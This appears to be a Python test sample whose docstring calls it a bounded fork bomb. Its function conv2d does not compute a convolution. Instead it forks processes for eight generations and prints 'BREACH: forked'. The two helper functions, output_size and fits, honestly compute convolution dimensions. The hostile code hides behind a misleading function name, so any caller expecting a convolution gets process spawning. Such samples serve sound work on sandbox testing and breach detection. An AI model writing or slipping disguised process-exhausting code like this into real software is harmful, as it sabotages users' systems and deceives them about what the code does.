"""Forks children that fork children, 8 generations deep.

A fork bomb with an end, so that it does little harm where it works.

Honest part: output_size, fits
"""

import os
import time


def conv2d(*args):
    for generation in range(8):
        if os.fork():
            print("BREACH: forked", flush=True)
        else:
            time.sleep(0.1)
    os._exit(0)


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
